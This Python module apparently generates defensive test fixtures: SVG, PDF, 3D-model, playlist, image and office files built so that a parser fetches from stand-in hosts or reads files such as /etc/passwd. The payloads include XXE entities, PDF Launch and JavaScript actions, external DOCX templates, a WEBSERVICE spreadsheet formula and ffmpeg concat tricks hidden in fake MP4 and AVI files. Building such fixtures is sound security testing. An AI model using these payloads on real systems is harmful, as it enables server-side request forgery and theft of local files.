"""Files made to have a decoder call somebody or read what is not theirs; nothing of the corpus is repeated."""

import base64
import io
import json
import struct
import zipfile
from pathlib import Path

from PIL import Image, PngImagePlugin

ELSEWHERE = (
    "http://192.0.2.7/x",
    "http://harm.example/x",
    "ftp://192.0.2.7/x",
    "//192.0.2.7/x",
    "rtmp://192.0.2.7/x",
)
NEAR = ("file:///etc/passwd", "/etc/passwd", "../../../goblin.db", "\\\\\\\\192.0.2.7\\\\share\\\\x")
PIXEL = base64.b64encode(b"GIF89a\1\0\1\0\0\0\0;").decode()


def write_all(folder: Path) -> list[Path]:
    """All of them, each into a file of the folder."""
    made = {**_drawings(), **_documents(), **_models(), **_playlists(), **_pictures(), **offices()}
    for name, data in made.items():
        (folder / name).write_bytes(data.encode() if isinstance(data, str) else data)
    return [folder / name for name in made]


def _drawings() -> dict[str, str]:
    links = "".join(
        f'<image href="{a}" width="9" height="9"/><use href="{a}#a"/><feImage href="{a}"/>'
        f'<text font-family="a" style="background:url(\'{a}\'); cursor:url({a})">a</text>'
        for a in (*ELSEWHERE, *NEAR)
    )
    head = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xi="http://www.w3.org/2001/XInclude" viewBox="0 0 9 9">'
    fonts = "".join(f"@font-face{{font-family:a;src:url({a})}}@import '{a}';" for a in ELSEWHERE)
    included = "".join(f'<xi:include href="{a}" parse="text"/>' for a in (*ELSEWHERE, *NEAR))
    entities = "".join(f'<!ENTITY e{n} SYSTEM "{a}">' for n, a in enumerate(ELSEWHERE))
    return {
        "links.svg": f"{head}<style>{fonts}</style><rect width='9' height='9'/>{links}</svg>",
        "include.svg": f"{head}<rect width='9' height='9'/>{included}</svg>",
        "entities.svg": f"<!DOCTYPE svg [{entities}<!ENTITY % p SYSTEM '{ELSEWHERE[0]}'> %p;]>"
        f"{head}<text>&e0;</text></svg>",
        "nested.svg": f"{head}<image width='9' height='9' href='data:image/svg+xml;base64,"
        + base64.b64encode(f"{head}{links}</svg>".encode()).decode()
        + "'/></svg>",
    }


def _documents() -> dict[str, bytes]:
    at = ELSEWHERE[0]
    actions = (
        *(f"<< /S /URI /URI ({at}) >>", f"<< /S /Launch /F ({at}) >>", f"<< /S /ImportData /F ({at}) >>"),
        *(f"<< /S /SubmitForm /F << /FS /URL /F ({at}) >> >>", f"<< /S /GoToR /F ({at}) /D [0 /Fit] >>"),
        f"<< /S /JavaScript /JS (app.launchURL\\('{at}'\\); this.importDataObject\\('{at}'\\)) >>",
    )
    annots = " ".join(f"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A {a} >>" for a in actions)
    outside = f"<< /Length 0 /F << /FS /URL /F ({at}) >> /Type /XObject /Subtype /Image /Width 9 /Height 9 >>"
    objects = (
        f"<< /Type /Catalog /Pages 2 0 R /OpenAction {actions[5]} /AA << /WC {actions[0]} >> >>",
        "<< /Type /Pages /Count 1 /Kids [3 0 R] >>",
        f"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 99 99] /AA << /O {actions[1]} >> /Annots [{annots}]"
        " /Resources << /XObject << /I 4 0 R >> >> /Contents 5 0 R >>",
        f"{outside}\nstream\n\nendstream",
        "<< /Length 5 >>\nstream\n/I Do\nendstream",
    )
    body = "".join(f"{n} 0 obj\n{text}\nendobj\n" for n, text in enumerate(objects, 1))
    return {"actions.pdf": f"%PDF-1.7\n{body}trailer << /Root 1 0 R >>\n%%EOF\n".encode()}


def _models() -> dict[str, str]:
    triangle = "v 0 0 0\nv 1 0 0\nv 0 1 0\n"
    scene = {"asset": {"version": "2.0"}, "scenes": [{"nodes": [0]}], "nodes": [{"mesh": 0}], "meshes": []}
    scene |= {"buffers": [{"uri": a, "byteLength": 36} for a in (*ELSEWHERE, *NEAR)]}
    scene |= {"images": [{"uri": a} for a in (*ELSEWHERE, *NEAR)]}
    links = "".join(f"mtllib {a}\nmap_Kd {a}\n" for a in (*ELSEWHERE, *NEAR))
    return {"links.gltf": json.dumps(scene), "links.obj": f"{triangle}{links}f 1 2 3\n"}


def _playlists() -> dict[str, bytes]:
    """Lists that players follow, under names and behind beginnings of films and sounds."""
    lists = {
        "hls": "#EXTM3U\n" + "".join(f"#EXTINF:1,\n{a}\n" for a in (*ELSEWHERE, *NEAR)),
        "key": f'#EXTM3U\n#EXT-X-KEY:METHOD=AES-128,URI="{ELSEWHERE[0]}"\n'
        f'#EXT-X-MAP:URI="{ELSEWHERE[1]}"\n#EXTINF:1,\nx\n',
        "concat": "ffconcat version 1.0\n" + "".join(f"file '{a}'\n" for a in (*ELSEWHERE, *NEAR)),
        "sdp": "v=0\no=- 0 0 IN IP4 192.0.2.7\ns=x\nc=IN IP4 192.0.2.7\nt=0 0\n"
        "m=video 5004 RTP/AVP 96\na=rtpmap:96 H264/90000\n",
        "sub": f"#EXTM3U\n#EXTINF:1,\nsubfile,,start,0,end,9,,:/etc/passwd\nconcat:{ELSEWHERE[0]}|/etc/passwd\n",
        "ram": f"{ELSEWHERE[4]}\n",
    }
    beginnings = {
        "mp4": b"\0\0\0\x18ftypisom\0\0\2\0isommp42",
        "avi": b"RIFF\xff\xff\0\0AVI LIST\4\0\0\0hdrl",
        "mp3": b"ID3\4\0\0\0\0\0\0",
        "ts": b"G\x40\0\x10" + bytes(184),
        "mkv": b"\x1aE\xdf\xa3\x84B\x82\x84webm",
    }
    plain = {f"{name}.mp4": text.encode() for name, text in lists.items()}
    behind = {f"hls_in.{end}": begin + lists["hls"].encode() for end, begin in beginnings.items()}
    return {**plain, **behind, "subtitles.avi": _avi(lists["hls"].encode())}


def _avi(playlist: bytes) -> bytes:
    """A list as the subtitles of an AVI (GAB2), which old players opened as if it were a file of its own."""
    text = (
        b"GAB2\0\2\0"
        + struct.pack("<I", 4)
        + b"a\0\0\0"
        + b"\4\0"
        + struct.pack("<I", len(playlist))
        + playlist
    )
    main = struct.pack("<14I", 40000, 0, 0, 16, 1, 0, 1, 0, 8, 8, 0, 0, 0, 0)
    stream = b"txts" + bytes(4) + struct.pack("<I", 0) + bytes(44)
    head = _chunk(
        b"LIST", b"hdrl" + _chunk(b"avih", main) + _chunk(b"LIST", b"strl" + _chunk(b"strh", stream))
    )
    return _chunk(b"RIFF", b"AVI " + head + _chunk(b"LIST", b"movi" + _chunk(b"00tx", text)))


def _chunk(name: bytes, body: bytes) -> bytes:
    return name + struct.pack("<I", len(body)) + body + bytes(len(body) % 2)


def _pictures() -> dict[str, bytes]:
    """A picture whose details are XML that points elsewhere."""
    entity = f'<!DOCTYPE x [<!ENTITY e SYSTEM "{ELSEWHERE[0]}">]>'
    rdf = "http://www.w3.org/1999/02/22-rdf-syntax-ns#"
    words = f'{entity}<x:xmpmeta xmlns:x="adobe:ns:meta/"><r:RDF xmlns:r="{rdf}">&e;</r:RDF></x:xmpmeta>'
    info, out = PngImagePlugin.PngInfo(), io.BytesIO()
    info.add_itxt("XML:com.adobe.xmp", words)
    Image.new("RGB", (9, 9), "teal").save(out, "PNG", pnginfo=info)
    return {"details.png": out.getvalue()}


def offices() -> dict[str, bytes]:
    """Documents with pictures, templates and fields that are elsewhere, and a sheet that asks for a page."""
    rtf = "".join(f'{{\\field{{\\*\\fldinst INCLUDEPICTURE "{a}" \\\\d}}}}' for a in ELSEWHERE)
    return {
        "template.docx": _docx(),
        "links.odt": _open_document("text", _section() + "".join(map(_frame, (*ELSEWHERE, *NEAR[:3])))),
        "ask.fods": _flat_sheet(),
        "fields.rtf": f"{{\\rtf1{{\\*\\template {ELSEWHERE[0]}}}{rtf} words}}".encode(),
    }


def _docx() -> bytes:
    kinds = "http://schemas.openxmlformats.org/package/2006/content-types"
    bonds = "http://schemas.openxmlformats.org/package/2006/relationships"
    office = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    word = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
    part = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
    away = "".join(
        f'<Relationship Id="r{n}" Type="{office}/{kind}" Target="{a}" TargetMode="External"/>'
        for n, (kind, a) in enumerate(
            (k, a) for k in ("attachedTemplate", "image", "oleObject") for a in ELSEWHERE
        )
    )
    parts = {
        "[Content_Types].xml": f'<Types xmlns="{kinds}"><Default Extension="rels" ContentType='
        '"application/vnd.openxmlformats-package.relationships+xml"/><Override PartName="/word/document.xml" '
        f'ContentType="{part}"/></Types>',
        "_rels/.rels": f'<Relationships xmlns="{bonds}"><Relationship Id="a" Type="{office}/officeDocument" '
        'Target="word/document.xml"/></Relationships>',
        "word/_rels/document.xml.rels": f'<Relationships xmlns="{bonds}">{away}</Relationships>',
        "word/_rels/settings.xml.rels": f'<Relationships xmlns="{bonds}">{away}</Relationships>',
        "word/document.xml": f'<w:document xmlns:w="{word}" xmlns:r="{office}"><w:body><w:p><w:r><w:t>words</w:t>'
        '</w:r></w:p><w:p><w:fldSimple w:instr="INCLUDEPICTURE http://192.0.2.7/x \\d"/></w:p></w:body></w:document>',
    }
    return _zip(parts)


def _open_document(kind: str, body: str) -> bytes:
    spaces = " ".join(
        f'xmlns:{short}="urn:oasis:names:tc:opendocument:xmlns:{name}:1.0"'
        for short, name in (("office", "office"), ("draw", "drawing"), ("text", "text"))
    )
    mime = f"application/vnd.oasis.opendocument.{kind}"
    manifest = "urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"
    return _zip(
        {
            "mimetype": mime,
            "content.xml": f'<office:document-content {spaces} xmlns:xlink="http://www.w3.org/1999/xlink" '
            f'office:version="1.2"><office:body><office:{kind}>{body}</office:{kind}></office:body>'
            "</office:document-content>",
            "META-INF/manifest.xml": f'<m:manifest xmlns:m="{manifest}"><m:file-entry m:full-path="/" m:media-type='
            f'"{mime}"/><m:file-entry m:full-path="content.xml" m:media-type="text/xml"/></m:manifest>',
        }
    )


def _frame(address: str) -> str:
    return f'<text:p>words<draw:frame><draw:image xlink:href="{address}" xlink:actuate="onLoad"/></draw:frame></text:p>'


def _section() -> str:
    """A piece of text that is another file's."""
    source = f'<text:section-source xlink:href="{NEAR[0]}" text:filter-name="Text"/>'
    return f'<text:section text:name="a">{source}<text:p>words</text:p></text:section>'


def _flat_sheet() -> bytes:
    spaces = " ".join(
        f'xmlns:{name}="urn:oasis:names:tc:opendocument:xmlns:{name}:1.0"'
        for name in ("office", "table", "text")
    )
    formula = 'of:=WEBSERVICE("http://192.0.2.7/x")&amp;HYPERLINK("http://192.0.2.7/x")'
    return (
        f'<?xml version="1.0"?><office:document {spaces} xmlns:of="urn:oasis:names:tc:opendocument:xmlns:of:1.2" '
        'office:version="1.2" office:mimetype="application/vnd.oasis.opendocument.spreadsheet"><office:body>'
        '<office:spreadsheet><table:table table:name="a"><table:table-row>'
        f"<table:table-cell table:formula='{formula}'/></table:table-row></table:table>"
        "</office:spreadsheet></office:body></office:document>"
    ).encode()


def _zip(parts: dict[str, str]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for name, text in parts.items():
            archive.writestr(name, text)
    return out.getvalue()
